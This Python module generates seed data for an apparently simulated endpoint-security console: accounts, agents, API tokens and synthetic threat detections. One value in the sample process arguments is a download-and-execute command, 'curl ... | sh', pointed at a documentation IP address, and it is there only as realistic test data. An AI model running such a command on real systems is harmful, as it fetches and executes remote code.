"""The deterministic seed world: accounts, sites, groups, agents, threats and tokens."""

from __future__ import annotations

import functools
import json
import random
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from typing import Any

from .model import ANALYST_VERDICTS, INCIDENT_STATUSES, StoredThreat, format_s1_instant

__all__ = ["Agent", "Scope", "SeedData", "SeedToken", "build_seed"]

THREAT_COUNT = 300
AGENTS_PER_GROUP = 6
_EPOCH = datetime(2024, 1, 2, 8, 0, tzinfo=UTC)
_SPAN_SECONDS = 180 * 24 * 3600

_WORLD = (
    (
        "Example Corp",
        (
            ("Default site", ("Default Group", "Servers")),
            ("Frankfurt DC", ("Workstations", "Database servers")),
        ),
    ),
    (
        "Globex Health",
        (
            ("Default site", ("Default Group", "Clinical laptops")),
            ("Cloud workloads", ("Kubernetes", "ECS services")),
        ),
    ),
)

# kind: (osType, osNames, arch choices, machine type, versions)
_PROFILES: dict[str, tuple[str, tuple[str, ...], tuple[str, ...], str, tuple[str, ...]]] = {
    "workstation": (
        "windows",
        ("Windows 10 Pro", "Windows 11 Enterprise"),
        ("64 bit",),
        "laptop",
        ("22.2.4.558", "23.1.2.400", "23.3.1.1234"),
    ),
    "desktop": (
        "windows",
        ("Windows 10 Enterprise",),
        ("64 bit", "32 bit"),
        "desktop",
        ("22.2.4.558", "23.1.2.400"),
    ),
    "legacy": (
        "windows_legacy",
        ("Windows 7 Professional",),
        ("32 bit",),
        "desktop",
        ("4.1.6.118",),
    ),
    "mac": (
        "macos",
        ("macOS Sonoma", "macOS Ventura"),
        ("ARM64", "64 bit"),
        "laptop",
        ("23.2.1.5",),
    ),
    "winserver": (
        "windows",
        ("Windows Server 2019 Standard", "Windows Server 2022 Datacenter"),
        ("64 bit",),
        "server",
        ("23.1.2.400",),
    ),
    "linux": (
        "linux",
        ("Ubuntu 22.04.3 LTS", "Red Hat Enterprise Linux 8.8"),
        ("64 bit", "ARM64"),
        "server",
        ("23.1.2.9", "22.3.3.11"),
    ),
    "storage": ("linux", ("CentOS Linux 7",), ("64 bit",), "storage", ("22.3.3.11",)),
    "k8s node": (
        "linux",
        ("Ubuntu 22.04.3 LTS",),
        ("64 bit",),
        "kubernetes node",
        ("23.2.2.4",),
    ),
    "k8s pod": ("linux", ("Alpine Linux 3.18",), ("64 bit",), "kubernetes pod", ("23.2.2.4",)),
    "ecs": ("linux", ("Amazon Linux 2023",), ("64 bit",), "ecs task", ("23.2.2.4",)),
}
_GROUP_KINDS = {
    "Default Group": ("workstation", "desktop", "mac", "legacy"),
    "Servers": ("winserver", "linux", "storage"),
    "Workstations": ("workstation", "desktop"),
    "Database servers": ("linux", "winserver"),
    "Clinical laptops": ("workstation", "mac"),
    "Kubernetes": ("k8s node", "k8s pod"),
    "ECS services": ("ecs",),
}
_THREATS = (
    ("invoice_2024.exe", "Malware", "executables"),
    ("Mimikatz", "Hacktool", "pre_execution"),
    ("setup_crack.exe", "PUA", "pup"),
    ("LockBit ransom note", "Ransomware", "sentinelone_cloud"),
    ("xmrig", "Miner", "reputation"),
    ("powershell.exe", "Malware", "application_control"),
    ("report.docm", "Trojan", "data_files"),
    ("rclone.exe", "Infostealer", "lateral_movement"),
    ("cve_2023_4966.py", "Exploit", "exploits"),
    ("kworker_miner", "Miner", "cloud_detection"),
    ("nc.traditional", "Hacktool", "remote_shell"),
    ("AgentTesla", "Infostealer", "threat_intelligence"),
)
_ENGINE_TITLES = {
    "reputation": "Reputation",
    "sentinelone_cloud": "SentinelOne Cloud",
    "cloud_detection": "Cloud Detection",
    "user_blacklist": "User-Defined Blocklist",
    "pre_execution": "On-Write Static AI",
    "pre_execution_suspicious": "On-Write Static AI - Suspicious",
    "executables": "Behavioral AI",
    "data_files": "Document, Script",
    "exploits": "Anti Exploitation / Fileless",
    "penetration": "Penetration",
    "pup": "Potentially Unwanted Applications",
    "lateral_movement": "Lateral Movement",
    "remote_shell": "Remote Shell",
    "manual": "Manual",
    "application_control": "Application Control",
    "threat_intelligence": "Threat Intelligence",
    "watchtower_cloud_detection": "WatchTower Cloud Detection",
    "driver_blocking": "Driver Blocking",
}
_INITIATED = {
    "agent_policy": "Agent Policy",
    "full_disk_scan": "Full Disk Scan",
    "console_api": "Console API",
    "on_demand_scan": "On-Demand Scan",
    "star_active": "STAR Active",
    "cloud_detection": "Cloud Detection",
}
_USERS = ("jdoe", "asmith", "mgarcia", "lchen", "okowalski", "svc_backup", "root", "ubuntu")
_PUBLISHERS = (None, None, "Microsoft Corporation", "Unknown Publisher Ltd", "Piriform Software")
_TAG_KEYS = {"env": ("prod", "staging", "dev"), "owner": ("it", "soc", "clinical")}


@dataclass(frozen=True)
class Scope:
    """An account, site or group of the console's hierarchy."""

    id: str
    name: str
    parent_id: str | None = None


@dataclass(frozen=True)
class Agent:
    """An endpoint and the context its threats carry."""

    id: str
    uuid: str
    computer_name: str
    kind: str
    os_type: str
    os_name: str
    os_arch: str
    machine_type: str
    version: str
    detection_version: str
    is_active: bool
    domain: str | None
    ipv4: str
    account: Scope
    site: Scope
    group: Scope
    tags: dict[str, str] = field(default_factory=dict)
    cloud: dict[str, Any] | None = None
    kubernetes: dict[str, Any] | None = None
    container: dict[str, Any] | None = None
    ecs: dict[str, Any] | None = None


@dataclass(frozen=True)
class SeedToken:
    """An API token the seed issues; ``account_ids`` None means the global scope."""

    token: str
    user: str
    write: bool
    account_ids: tuple[str, ...] | None


@dataclass
class SeedData:
    """Everything one seed produces."""

    seed: int
    accounts: list[Scope]
    sites: list[Scope]
    groups: list[Scope]
    agents: list[Agent]
    threats: list[StoredThreat]
    tokens: list[SeedToken]


def _hex(rng: random.Random, digits: int) -> str:
    return f"{rng.getrandbits(digits * 4):0{digits}x}"


def _numeric_id(rng: random.Random) -> str:
    return str(rng.randrange(10**17, 10**18))


def _token(rng: random.Random) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(rng.choice(alphabet) for _ in range(80))


def _cloud(rng: random.Random, kind: str, name: str) -> dict[str, Any] | None:
    if kind in ("ecs", "k8s node", "k8s pod") or (
        kind in ("linux", "winserver") and rng.random() < 0.7
    ):
        provider = "AWS" if kind == "ecs" else rng.choice(("AWS", "Azure", "GCP"))
    else:
        return None
    context: dict[str, Any] = {
        "cloudInstanceId": f"i-{_hex(rng, 17)}",
        "cloudInstanceSize": rng.choice(
            ("t3.large", "m5.xlarge", "Standard_D4s_v3", "e2-standard-4")
        ),
        "cloudImage": rng.choice(
            ("ami-0c55b159cbfafe1f0", "ubuntu-2204-jammy-v20240110", "rhel-8")
        ),
        "cloudLocation": rng.choice(("us-east-1", "eu-central-1", "westeurope", "us-central1")),
        "cloudNetwork": f"vpc-{_hex(rng, 8)}",
        "cloudAccount": str(rng.randrange(10**11, 10**12)),
    }
    if provider == "AWS":
        context["awsRole"] = f"arn:aws:iam::{context['cloudAccount']}:role/{name}-instance-role"
        context["awsSecurityGroups"] = [f"sg-{_hex(rng, 8)}", "sg-default"]
        context["awsSubnetIds"] = [f"subnet-{_hex(rng, 8)}"]
    elif provider == "Azure":
        context["azureResourceGroup"] = rng.choice(("rg-prod-workloads", "rg-clinical-apps"))
    else:
        context["gcpServiceAccount"] = f"{name}@globex-prod.iam.gserviceaccount.com"
    return {provider: context}


def _agents(rng: random.Random) -> tuple[list[Scope], list[Scope], list[Scope], list[Agent]]:
    accounts: list[Scope] = []
    sites: list[Scope] = []
    groups: list[Scope] = []
    agents: list[Agent] = []
    serial = 100
    for account_name, site_specs in _WORLD:
        account = Scope(_numeric_id(rng), account_name)
        accounts.append(account)
        for site_name, group_names in site_specs:
            site = Scope(_numeric_id(rng), site_name, account.id)
            sites.append(site)
            for group_name in group_names:
                group = Scope(_numeric_id(rng), group_name, site.id)
                groups.append(group)
                for _ in range(AGENTS_PER_GROUP):
                    serial += 1
                    kind = rng.choice(_GROUP_KINDS[group_name])
                    agents.append(_agent(rng, kind, serial, account, site, group))
    return accounts, sites, groups, agents


def _agent(
    rng: random.Random, kind: str, serial: int, account: Scope, site: Scope, group: Scope
) -> Agent:
    os_type, os_names, arches, machine, versions = _PROFILES[kind]
    prefix = {
        "workstation": "WS",
        "desktop": "DT",
        "legacy": "LEG",
        "mac": "MBP",
        "winserver": "SRV",
        "linux": "lnx",
        "storage": "nas",
        "k8s node": "ip-10-20",
        "k8s pod": "payments-api",
        "ecs": "ecs-task",
    }[kind]
    name = f"{prefix}-{serial:04d}"
    version = rng.choice(versions)
    tags: dict[str, str] = {}
    if rng.random() < 0.6:
        for key, values in _TAG_KEYS.items():
            if rng.random() < 0.7:
                tags[key] = rng.choice(values)
    kubernetes = container = ecs = None
    if kind in ("k8s node", "k8s pod"):
        cluster = rng.choice(("prod-eks-1", "staging-gke"))
        namespace = rng.choice(("payments", "kube-system", "default"))
        kubernetes = {
            "cluster": cluster,
            "node": f"ip-10-20-{serial % 250}-{rng.randrange(1, 250)}.ec2.internal",
            "nodeLabels": [
                f"topology.kubernetes.io/zone={rng.choice(('us-east-1a', 'us-east-1b'))}"
            ],
            "namespace": namespace,
            "namespaceLabels": [f"team={rng.choice(('payments', 'platform'))}"],
            "controllerKind": "Deployment" if kind == "k8s pod" else None,
            "controllerName": f"{namespace}-api" if kind == "k8s pod" else None,
            "controllerLabels": [f"app={namespace}-api"] if kind == "k8s pod" else [],
            "pod": f"{namespace}-api-{_hex(rng, 10)}-{_hex(rng, 5)}" if kind == "k8s pod" else None,
            "podLabels": [f"app={namespace}-api", "tier=backend"] if kind == "k8s pod" else [],
            "isContainerQuarantine": False,
        }
    if kind in ("k8s pod", "ecs"):
        image = rng.choice(("nginx:1.25-alpine", "python:3.11-slim", "globex/payments-api:2.4.1"))
        container = {
            "id": _hex(rng, 64),
            "name": f"{image.split(':')[0].split('/')[-1]}-{serial}",
            "image": image,
            "labels": ["maintainer=platform-team", f"version={image.split(':')[-1]}"],
            "isContainerQuarantine": False,
        }
    if kind == "ecs":
        arn = "arn:aws:ecs:us-east-1:123456789012"
        ecs = {
            "clusterName": "globex-ecs-prod",
            "serviceName": "billing-worker",
            "serviceArn": f"{arn}:service/globex-ecs-prod/billing-worker",
            "taskArn": f"{arn}:task/globex-ecs-prod/{_hex(rng, 32)}",
            "taskAvailabilityZone": "us-east-1a",
            "taskDefinitionArn": f"{arn}:task-definition/billing:7",
            "taskDefinitionFamily": "billing",
            "taskDefinitionRevision": "7",
            "type": "FARGATE",
            "version": "1.4.0",
        }
    windows = os_type in ("windows", "windows_legacy")
    return Agent(
        id=str(rng.randrange(10**18, 2 * 10**18)),
        uuid=_hex(rng, 32),
        computer_name=name,
        kind=kind,
        os_type=os_type,
        os_name=rng.choice(os_names),
        os_arch=rng.choice(arches),
        machine_type=machine,
        version=version,
        detection_version=version if rng.random() < 0.8 else rng.choice((*versions, "21.7.5.1080")),
        is_active=rng.random() < 0.8,
        domain=("CORP" if account.name == "Example Corp" else "GLOBEX") if windows else None,
        ipv4=f"10.{rng.randrange(0, 40)}.{rng.randrange(0, 255)}.{rng.randrange(2, 254)}",
        account=account,
        site=site,
        group=group,
        tags=tags,
        cloud=_cloud(rng, kind, name),
        kubernetes=kubernetes,
        container=container,
        ecs=ecs,
    )


def _file_path(rng: random.Random, agent: Agent, file_name: str, user: str) -> str:
    if agent.os_type in ("windows", "windows_legacy"):
        folder = rng.choice(("Downloads", "AppData\\Local\\Temp", "Desktop"))
        return f"\\Device\\HarddiskVolume3\\Users\\{user}\\{folder}\\{file_name}"
    if agent.os_type == "macos":
        return f"/Users/{user}/Downloads/{file_name}"
    # Where malware lands on a Linux host, not a file this code writes.
    folders = ("/tmp/", "/var/tmp/", "/opt/app/", "/usr/local/bin/")  # noqa: S108
    return rng.choice(folders) + file_name


def _placement(agent: Agent) -> dict[str, str]:
    # Where the agent sits, as both the realtime and the detection info repeat it.
    return {
        "accountId": agent.account.id,
        "accountName": agent.account.name,
        "siteId": agent.site.id,
        "siteName": agent.site.name,
        "groupId": agent.group.id,
        "groupName": agent.group.name,
    }


def _threat(rng: random.Random, threat_id: str, created: datetime, agent: Agent) -> StoredThreat:
    name, classification, engine = rng.choice(_THREATS)
    user = rng.choice(_USERS)
    status = rng.choices(tuple(INCIDENT_STATUSES), weights=(6, 2, 3))[0]
    if status == "resolved":
        verdict = rng.choice(("true_positive", "false_positive", "suspicious"))
    else:
        verdict = rng.choices(tuple(ANALYST_VERDICTS), weights=(6, 2, 1, 1))[0]
    mitigation = rng.choices(("mitigated", "not_mitigated", "marked_as_benign"), weights=(6, 3, 1))[
        0
    ]
    if verdict == "false_positive":
        mitigation = "marked_as_benign"
    initiated = rng.choice(tuple(_INITIATED))
    engines = [engine] + ([rng.choice(tuple(_ENGINE_TITLES))] if rng.random() < 0.3 else [])
    engines = list(dict.fromkeys(engines))
    ticket = None
    if rng.random() < 0.2:
        ticket = rng.choice(
            (f"INC{rng.randrange(10**6, 10**7)}", f"SEC-{rng.randrange(100, 9999)}")
        )
    failed = mitigation == "not_mitigated" and rng.random() < 0.3
    pending = not failed and rng.random() < 0.1
    reboot = rng.random() < 0.05
    updated = created + timedelta(seconds=rng.randrange(5, 7 * 24 * 3600))
    file_name = name if "." in name else f"{name.lower().replace(' ', '_')}.bin"
    process = rng.choice(("explorer.exe", "outlook.exe", "winword.exe", "bash", "python3", "java"))
    action_status = "failed" if failed else ("pending" if pending else "success")
    data: dict[str, Any] = {
        "id": threat_id,
        "threatInfo": {
            "threatId": threat_id,
            "threatName": name,
            "classification": classification,
            "classificationSource": rng.choice(("Cloud", "Behavioral", "Static", "Engine")),
            "confidenceLevel": rng.choices(("malicious", "suspicious", "n/a"), weights=(6, 3, 1))[
                0
            ],
            "analystVerdict": verdict,
            "analystVerdictDescription": ANALYST_VERDICTS[verdict],
            "incidentStatus": status,
            "incidentStatusDescription": INCIDENT_STATUSES[status],
            "mitigationStatus": mitigation,
            "mitigationStatusDescription": mitigation.replace("_", " ").capitalize(),
            "initiatedBy": initiated,
            "initiatedByDescription": _INITIATED[initiated],
            "initiatingUsername": rng.choice((None, "soc.analyst@example.com", user)),
            "externalTicketId": ticket,
            "externalTicketExists": ticket is not None,
            "createdAt": format_s1_instant(created),
            "updatedAt": format_s1_instant(updated),
            "identifiedAt": format_s1_instant(
                created - timedelta(milliseconds=rng.randrange(50, 900))
            ),
            "sha1": _hex(rng, 40),
            "sha256": _hex(rng, 64) if rng.random() < 0.5 else None,
            "md5": _hex(rng, 32) if rng.random() < 0.3 else None,
            "filePath": _file_path(rng, agent, file_name, user),
            "fileSize": rng.randrange(2_000, 40_000_000),
            "storyline": _hex(rng, 16).upper(),
            "originatorProcess": process,
            "maliciousProcessArguments": rng.choice(
                (
                    None,
                    f"{file_name} --silent",
                    f"-enc {_hex(rng, 24)}",
                    f"-c 'curl -s http://198.51.100.{rng.randrange(1, 254)}/x | sh'",
                )
            ),
            "engines": [_ENGINE_TITLES[e] for e in engines],
            "detectionEngines": [{"key": e, "title": _ENGINE_TITLES[e]} for e in engines],
            "detectionType": rng.choice(("static", "dynamic")),
            "mitigatedPreemptively": rng.random() < 0.4,
            "failedActions": failed,
            "pendingActions": pending,
            "rebootRequired": reboot,
            "automaticallyResolved": False,
            "collectionId": str(rng.randrange(10**18, 2 * 10**18)),
            "cloudFilesHashVerdict": rng.choice((None, "black", "provider_unknown")),
            "publisherName": rng.choice(_PUBLISHERS),
            "processUser": f"{agent.domain}\\{user}" if agent.domain else user,
        },
        "agentRealtimeInfo": {
            "agentId": agent.id,
            "agentUuid": agent.uuid,
            "agentComputerName": agent.computer_name,
            "agentDomain": agent.domain,
            "agentOsType": agent.os_type,
            "agentOsName": agent.os_name,
            "agentOsRevision": None,
            "agentMachineType": agent.machine_type,
            "agentVersion": agent.version,
            "agentIsActive": agent.is_active,
            "agentIsDecommissioned": False,
            "agentInfected": status != "resolved",
            "agentMitigationMode": "protect",
            "agentNetworkStatus": "connected" if agent.is_active else "disconnected",
            **_placement(agent),
            "networkInterfaces": [
                {
                    "id": str(rng.randrange(10**18, 2 * 10**18)),
                    "name": "Ethernet" if agent.domain else "eth0",
                    "inet": [agent.ipv4],
                    "inet6": [],
                    "physical": ":".join(_hex(rng, 2) for _ in range(6)),
                }
            ],
            "activeThreats": 0,
            "rebootRequired": reboot,
        },
        "agentDetectionInfo": {
            "agentUuid": agent.uuid,
            "agentDomain": agent.domain,
            "agentIpV4": agent.ipv4,
            "agentIpV6": None,
            "externalIp": f"203.0.113.{rng.randrange(1, 254)}",
            "agentVersion": agent.detection_version,
            "agentOsName": agent.os_name,
            "agentOsRevision": None,
            "agentMitigationMode": "protect",
            "agentDetectionState": None,
            "agentLastLoggedInUserName": user,
            "agentLastLoggedInUpn": None,
            "agentRegisteredAt": format_s1_instant(_EPOCH - timedelta(days=rng.randrange(30, 700))),
            **_placement(agent),
            "cloudProviders": agent.cloud or {},
        },
        "indicators": [
            {
                "category": "Persistence",
                "description": "Modified a registry run key.",
                "ids": [23],
                "tactics": [
                    {
                        "name": "Persistence",
                        "source": "MITRE",
                        "techniques": [
                            {
                                "name": "T1547.001",
                                "link": "https://attack.mitre.org/techniques/T1547/001/",
                            }
                        ],
                    }
                ],
            }
        ]
        if rng.random() < 0.5
        else [],
        "mitigationStatus": [
            {
                "action": "quarantine" if mitigation == "mitigated" else "kill",
                "status": action_status,
                "lastUpdate": format_s1_instant(created + timedelta(seconds=2)),
                "mitigationStartedAt": format_s1_instant(created + timedelta(seconds=1)),
                "mitigationEndedAt": format_s1_instant(created + timedelta(seconds=2)),
                "groupNotFound": False,
                "latestReport": None,
                "actionsCounters": {
                    "failed": int(failed),
                    "notFound": 0,
                    "pendingReboot": 0,
                    "success": int(not failed and not pending),
                    "total": 1,
                },
            }
        ],
        "containerInfo": dict(agent.container) if agent.container else None,
        "kubernetesInfo": dict(agent.kubernetes) if agent.kubernetes else None,
        "ecsInfo": dict(agent.ecs) if agent.ecs else None,
        "whiteningOptions": ["hash", "path"] if agent.os_type != "linux" else ["hash"],
    }
    _add_undocumented(data, created)
    return StoredThreat(
        data=data,
        os_arch=agent.os_arch,
        agent_tags=dict(agent.tags),
        note_count=rng.choice((0, 0, 0, 1, 2)),
    )


_EXTENSION_TYPES = {
    "EXE": "Executable",
    "DLL": "Executable",
    "PY": "Script",
    "PS1": "Script",
    "DOCM": "Document",
    "BIN": "Unknown",
}


def _add_undocumented(data: dict[str, Any], created: datetime) -> None:
    """The fields real threats carry beyond the documents, derived from the rest.

    Derived rather than drawn, so the random sequence (and every other seeded value)
    stays what it was before these fields existed.
    """
    info = data["threatInfo"]
    name = str(info["filePath"]).replace("\\", "/").rsplit("/", 1)[-1]
    extension = name.rsplit(".", 1)[-1].upper() if "." in name else ""
    signed = info["publisherName"] is not None
    info.update(
        {
            "browserType": None,
            "certificateId": info["publisherName"] or "",
            "fileExtension": extension,
            "fileExtensionType": _EXTENSION_TYPES.get(extension, "Unknown"),
            "fileVerificationType": "SignedVerified" if signed else "NotSigned",
            "initiatingUserId": None,
            "isFileless": False,
            "isValidCertificate": signed,
            "reachedEventsLimit": False,
        }
    )
    scanned = created - timedelta(days=1)
    data["agentRealtimeInfo"].update(
        {
            "agentDecommissionedAt": None,
            "operationalState": "na",
            "scanAbortedAt": None,
            "scanStartedAt": format_s1_instant(scanned),
            "scanFinishedAt": format_s1_instant(scanned + timedelta(minutes=47)),
            "scanStatus": "finished",
            "storageName": None,
            "storageType": None,
            "userActionsNeeded": [],
        }
    )
    data["agentDetectionInfo"]["agentLastLoggedInUserMail"] = None
    for action in data["mitigationStatus"]:
        action["agentSupportsReport"] = True


def build_seed(seed: int = 0) -> SeedData:
    """The world for ``seed``: same seed, same ids, same threats, same tokens.

    Every call returns threats of its own, free to change; the world is generated once
    per seed and copied after that, which keeps a fresh simulator cheap.
    """
    template = _generate(seed)
    threats = [
        StoredThreat(
            data=json.loads(json.dumps(t.data)),
            os_arch=t.os_arch,
            agent_tags=dict(t.agent_tags),
            note_count=t.note_count,
        )
        for t in template.threats
    ]
    return replace(template, threats=threats)


@functools.lru_cache(maxsize=4)
def _generate(seed: int) -> SeedData:
    rng = random.Random(seed)  # noqa: S311 - reproducible test data and tokens, not secrets
    accounts, sites, groups, agents = _agents(rng)
    moments = sorted(
        _EPOCH + timedelta(seconds=rng.randrange(_SPAN_SECONDS)) for _ in range(THREAT_COUNT)
    )
    # Threat ids grow with creation time, as the console's ids do.
    next_id = 1_700_000_000_000_000_000 + rng.randrange(10**15)
    threats: list[StoredThreat] = []
    for created in moments:
        next_id += rng.randrange(10**9, 10**12)
        created = created.replace(microsecond=rng.randrange(10**6))
        threats.append(_threat(rng, str(next_id), created, rng.choice(agents)))
    active = {t.data["agentRealtimeInfo"]["agentId"] for t in threats}
    counts = {agent_id: 0 for agent_id in active}
    for threat in threats:
        if threat.info["incidentStatus"] != "resolved":
            counts[threat.agent["agentId"]] += 1
    for threat in threats:
        threat.agent["activeThreats"] = counts[threat.agent["agentId"]]
    tokens = [
        SeedToken(_token(rng), "soc.admin@example.com", True, None),
        SeedToken(_token(rng), "auditor@example.com", False, None),
        SeedToken(_token(rng), "it.admin@example.com", True, (accounts[0].id,)),
    ]
    return SeedData(seed, accounts, sites, groups, agents, threats, tokens)
